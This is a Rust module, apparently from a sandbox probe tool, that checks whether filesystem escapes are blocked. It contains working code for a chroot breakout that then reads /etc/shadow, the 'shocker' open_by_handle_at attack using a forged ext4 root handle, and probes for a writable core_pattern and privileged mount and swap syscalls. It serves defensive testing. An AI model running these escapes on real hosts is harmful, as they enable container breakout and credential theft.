//! Filesystem escapes: reading host files, writing outside the workspace, mounting, chroot
//! breakouts, file handles (the "shocker" exploit) and the filesystem-level admin syscalls.

use std::ffi::CString;

use crate::report::{check, Failure, Outcome, Success};

fn cstring(text: &str) -> Result<CString, Failure> {
    CString::new(text).map_err(|_| Failure {
        errno: libc::EINVAL,
        step: format!("path {text:?} contains NUL"),
    })
}

/// Opens `path` read-only and reads up to 4 KiB, returning how many bytes came back.
fn read_some(path: &str) -> Result<usize, Failure> {
    let c_path = cstring(path)?;
    // SAFETY: c_path is a valid NUL-terminated string for the duration of the call.
    let fd = unsafe { libc::open(c_path.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
    check(fd as libc::c_long, &format!("open({path})"))?;
    let mut buf = [0u8; 4096];
    // SAFETY: buf is writable for buf.len() bytes; fd was just opened.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    let result = check(n as libc::c_long, &format!("read({path})"));
    // SAFETY: fd is ours and closed once.
    unsafe { libc::close(fd) };
    result.map(|n| n as usize)
}

pub fn read_shadow(_: &[String]) -> Outcome {
    read_some("/etc/shadow").map(|n| Success::new(format!("read {n} bytes of /etc/shadow")))
}

pub fn read_file(args: &[String]) -> Outcome {
    let path = crate::arg(args, 0, "PATH");
    read_some(path).map(|n| Success::new(format!("read {n} bytes of {path}")))
}

pub fn write_file(args: &[String]) -> Outcome {
    let path = crate::arg(args, 0, "PATH");
    let c_path = cstring(path)?;
    let flags = libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL | libc::O_CLOEXEC;
    // SAFETY: c_path is a valid NUL-terminated string.
    let fd = unsafe { libc::open(c_path.as_ptr(), flags, 0o644 as libc::c_uint) };
    check(fd as libc::c_long, &format!("open({path}, O_CREAT)"))?;
    let text = b"written by runbox-probe\n";
    // SAFETY: text is readable for its length; fd is open for writing.
    let n = unsafe { libc::write(fd, text.as_ptr().cast(), text.len()) };
    let result = check(n as libc::c_long, &format!("write({path})"));
    // SAFETY: fd is ours and closed once.
    unsafe { libc::close(fd) };
    result.map(|n| Success::new(format!("created {path} and wrote {n} bytes")))
}

/// Opens an existing file for writing and writes nothing: enough to show that a global
/// knob such as /proc/sys/kernel/core_pattern is writable, without changing it on the host.
pub fn open_write(args: &[String]) -> Outcome {
    let path = crate::arg(args, 0, "PATH");
    let c_path = cstring(path)?;
    // SAFETY: c_path is a valid NUL-terminated string.
    let fd = unsafe { libc::open(c_path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    check(fd as libc::c_long, &format!("open({path}, O_WRONLY)"))?;
    // SAFETY: our own fd, closed once.
    unsafe { libc::close(fd) };
    Ok(Success::new(format!(
        "opened {path} for writing (wrote nothing)"
    )))
}

/// A fresh directory under /tmp for cases that need a mount point or a chroot.
fn scratch_dir(purpose: &str) -> Result<String, Failure> {
    let dir = format!("/tmp/rbp-{purpose}-{}", std::process::id());
    std::fs::create_dir(&dir).map_err(|e| Failure::from_io(format!("mkdir({dir})"), &e))?;
    Ok(dir)
}

pub fn mount_tmpfs(args: &[String]) -> Outcome {
    let (dir, made) = match args.first() {
        Some(dir) => (dir.clone(), false),
        None => (scratch_dir("mount")?, true),
    };
    let target = cstring(&dir)?;
    // SAFETY: all pointers are valid NUL-terminated strings.
    let ret = unsafe {
        libc::mount(
            c"none".as_ptr(),
            target.as_ptr(),
            c"tmpfs".as_ptr(),
            0,
            c"size=1m".as_ptr().cast(),
        )
    };
    let result = check(ret as libc::c_long, &format!("mount(tmpfs, {dir})"));
    if result.is_ok() {
        // SAFETY: target is a valid path; we undo our own mount at once.
        unsafe { libc::umount2(target.as_ptr(), libc::MNT_DETACH) };
    }
    if made {
        let _ = std::fs::remove_dir(&dir);
    }
    result.map(|_| Success::new(format!("mounted a tmpfs on {dir} (and unmounted it)")))
}

/// mkdir + chroot into it + chdir("..") past the root + chroot(".") + read /etc/shadow.
pub fn chroot_escape(_: &[String]) -> Outcome {
    let dir = scratch_dir("chroot")?;
    let result = chroot_escape_from(&dir);
    // After a successful escape "/" is the real root again, so the absolute path works.
    let _ = std::fs::remove_dir(&dir);
    result
}

fn chroot_escape_from(dir: &str) -> Outcome {
    let c_dir = cstring(dir)?;
    // SAFETY: valid NUL-terminated strings throughout.
    check(
        unsafe { libc::chroot(c_dir.as_ptr()) } as libc::c_long,
        "chroot(dir)",
    )?;
    for _ in 0..64 {
        // SAFETY: as above.
        check(
            unsafe { libc::chdir(c"..".as_ptr()) } as libc::c_long,
            "chdir(..)",
        )?;
    }
    // SAFETY: as above.
    check(
        unsafe { libc::chroot(c".".as_ptr()) } as libc::c_long,
        "chroot(.)",
    )?;
    let n = read_some("/etc/shadow")?;
    Ok(Success::new(format!(
        "escaped the chroot and read {n} bytes of /etc/shadow"
    )))
}

const MAX_HANDLE_SZ: usize = 128;

/// struct file_handle with room for the largest handle.
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u8; MAX_HANDLE_SZ],
}

fn handle_of(path: &str) -> Result<FileHandle, Failure> {
    let c_path = cstring(path)?;
    let mut handle = FileHandle {
        handle_bytes: MAX_HANDLE_SZ as u32,
        handle_type: 0,
        f_handle: [0; MAX_HANDLE_SZ],
    };
    let mut mount_id: libc::c_int = 0;
    // SAFETY: handle has handle_bytes bytes of payload; mount_id is writable.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            c_path.as_ptr(),
            &mut handle as *mut FileHandle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    };
    check(ret, &format!("name_to_handle_at({path})"))?;
    Ok(handle)
}

pub fn name_to_handle_at(_: &[String]) -> Outcome {
    let handle = handle_of("/etc")?;
    Ok(Success::new(format!(
        "got a {}-byte handle of type {} for /etc",
        handle.handle_bytes, handle.handle_type
    )))
}

/// The shocker attack: open a file by handle. The handle comes from name_to_handle_at when
/// that is allowed, otherwise it is forged (ext4 root: inode 2, generation 0, FILEID_INO32_GEN).
pub fn open_by_handle_at(_: &[String]) -> Outcome {
    let (mut handle, origin) = match handle_of("/etc") {
        Ok(handle) => (handle, "name_to_handle_at(/etc)"),
        Err(_) => {
            let mut forged = FileHandle {
                handle_bytes: 8,
                handle_type: 1,
                f_handle: [0; MAX_HANDLE_SZ],
            };
            forged.f_handle[0] = 2;
            (forged, "forged ext4 root handle")
        }
    };
    // SAFETY: a valid NUL-terminated path.
    let mount_fd = unsafe { libc::open(c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) };
    check(mount_fd as libc::c_long, "open(/)")?;
    // SAFETY: handle is a valid struct file_handle; mount_fd is open.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount_fd,
            &mut handle as *mut FileHandle,
            libc::O_RDONLY | libc::O_CLOEXEC,
        )
    };
    let result = check(fd, "open_by_handle_at");
    // SAFETY: our own fds, each closed once.
    unsafe {
        if let Ok(fd) = result {
            libc::close(fd as libc::c_int);
        }
        libc::close(mount_fd);
    }
    result.map(|_| Success::new(format!("opened a file from a {origin}")))
}

/// Q_GETINFO on a device that does not exist: ENOENT on the host, EPERM if denied up front.
pub fn quotactl(_: &[String]) -> Outcome {
    const Q_GETINFO: libc::c_int = 0x800005;
    const USRQUOTA: libc::c_int = 0;
    let cmd = (Q_GETINFO << 8) | USRQUOTA;
    let mut info = [0u8; 64];
    // SAFETY: valid path string; info is a writable buffer larger than struct if_dqinfo.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_quotactl,
            cmd,
            c"/nonexistent-runbox-probe".as_ptr(),
            0,
            info.as_mut_ptr(),
        )
    };
    check(ret, "quotactl(Q_GETINFO)").map(|_| Success::new("read quota info"))
}

/// acct() on a path that does not exist (never NULL: that would switch accounting off).
pub fn acct(_: &[String]) -> Outcome {
    // SAFETY: a valid NUL-terminated path.
    let ret = unsafe { libc::syscall(libc::SYS_acct, c"/nonexistent-runbox-probe/acct".as_ptr()) };
    check(ret, "acct(/nonexistent)").map(|_| Success::new("process accounting switched"))
}

/// swapon() with invalid flags: EINVAL on the host after the capability check.
pub fn swapon(_: &[String]) -> Outcome {
    let path = c"/nonexistent-runbox-probe";
    // SAFETY: a valid NUL-terminated path.
    let ret = unsafe { libc::syscall(libc::SYS_swapon, path.as_ptr(), 0xffff_ffffu32) };
    check(ret, "swapon(bad flags)").map(|_| Success::new("swapon accepted"))
}

/// swapoff() of a path that does not exist: ENOENT on the host after the capability check.
pub fn swapoff(_: &[String]) -> Outcome {
    let path = c"/nonexistent-runbox-probe";
    // SAFETY: a valid NUL-terminated path.
    let ret = unsafe { libc::syscall(libc::SYS_swapoff, path.as_ptr()) };
    check(ret, "swapoff(/nonexistent)").map(|_| Success::new("swapoff accepted"))
}
